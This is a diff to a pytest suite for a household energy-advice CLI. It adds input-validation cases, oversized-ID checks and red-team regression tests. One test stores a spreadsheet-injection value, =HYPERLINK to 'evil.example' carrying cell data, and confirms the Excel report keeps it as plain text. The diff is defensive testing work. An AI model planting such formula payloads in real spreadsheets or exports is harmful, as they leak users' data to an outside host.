@@ -21,6 +21,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from openpyxl import load_workbook
 from testkit.bad_inputs import (
     LEAKS,
     MAY_CHANGE,
@@ -40,9 +41,11 @@ from testkit.bad_inputs import (
     set_revision,
     snapshot,
 )
+from testkit.hostile_files import IMPORT_CASES
 from testkit.letters import pdftotext
 
 from siec_desk import i18n
+from siec_desk.cli.arg_types import MAX_ID
 from siec_desk.documents.pdf import RenderedPdf
 from siec_desk.errors import DatabaseError, SiecError
 from siec_desk.labels import FIELDS, describe_errors
@@ -108,6 +111,26 @@ def cli(*args: str) -> Any:
 
 
 ADD_CALL = ("consultation", "add", "--mode", "phone", "--theme", "heating")
+HUGE = "99999999999999999999"
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Click me")'
+
+
+def formula_commune_report(env: Env) -> Path:
+    """redteam HIGH-2: a commune typed as a formula, then the month's Excel report."""
+    today = datetime.now().date()
+    code, _out, err = env.cli(*ADD_CALL, "--date", today.isoformat(), "--commune", FORMULA)
+    assert code == 0, err
+    out = env.folder / "report.xlsx"
+    code, _out, err = env.cli("stats", "report", "--month", f"{today:%Y-%m}", "--out", str(out))
+    assert code == 0, err
+    return out
+
+
+def report_has_no_formula(env: Env, out: Path) -> None:
+    book = load_workbook(out)
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert FORMULA in [c.value for c in cells]
 
 
 # -- accepted inputs: what was stored ----------------------------------------------------
@@ -526,6 +549,14 @@ CASES = [
         Refused("measures"),
     ),
     Case(
+        "consultation-measures-on-the-same-roof",
+        "form",
+        with_household(
+            measures=(MeasureChoice("attic_insulation"), MeasureChoice("roof_insulation"))
+        ),
+        Refused("measures"),
+    ),
+    Case(
         "consultation-hostile-notes",
         "form",
         with_household(notes=f"{SQL}\n{JINJA}{BIDI}{CONTROLS} 🌞", commune=f"{BIDI}Gardanne"),
@@ -625,6 +656,24 @@ CASES = [
     ),
     Case("cli-future-date", "cli", cli(*ADD_CALL, "--date", "2999-01-01"), Refused("occurred_at")),
     Case(
+        "cli-household-surface-negative",
+        "cli",
+        cli("household", "add", "--last-name", "Curie", "--surface", "-5"),
+        Refused("surface_m2"),
+    ),
+    Case(
+        "cli-household-surface-not-a-number",
+        "cli",
+        cli("household", "add", "--last-name", "Curie", "--surface", "grand"),
+        Refused(names="--surface", exit=2),
+    ),
+    Case(
+        "cli-household-top-floor-unknown-word",
+        "cli",
+        cli("household", "add", "--last-name", "Curie", "--top-floor", "peut-être"),
+        Refused(names="--top-floor", exit=2),
+    ),
+    Case(
         "cli-duration-negative", "cli", cli(*ADD_CALL, "--duration", "-5"), Refused("duration_min")
     ),
     Case(
@@ -666,6 +715,24 @@ CASES = [
         "cli",
         cli("household", "show", "999999"),
         Refused(names="999999"),
+    ),
+    *(  # redteam LOW-5: ids and limits past what a database column holds
+        Case(f"cli-huge-{name}", "cli", cli(*args), Refused(names=str(MAX_ID), exit=2))
+        for name, args in (
+            ("household-show", ("household", "show", HUGE)),
+            ("household-erase", ("household", "erase", HUGE, "--yes")),
+            ("household-export", ("household", "export", HUGE, "--out", "x.json")),
+            ("letter", ("letter", HUGE, "--out", "x.pdf")),
+            ("consultation-household", (*ADD_CALL, "--household", HUGE)),
+            ("list-limit", ("household", "list", "--limit", HUGE)),
+            ("search-limit", ("household", "search", "dupont", "--limit", HUGE)),
+        )
+    ),
+    Case(
+        "cli-formula-commune-stays-text-in-the-report",
+        "cli",
+        formula_commune_report,
+        Accepted(report_has_no_formula),
     ),
     Case(
         "cli-household-bidi-name",
@@ -789,6 +856,7 @@ CASES = [
         rights_export_on_full_disk,
         Refused(error=SiecError, then=no_file("export.json")),
     ),
+    *IMPORT_CASES,  # redteam MEDIUM-11, LOW-4, LOW-7: hostile spreadsheets
 ]
 
 
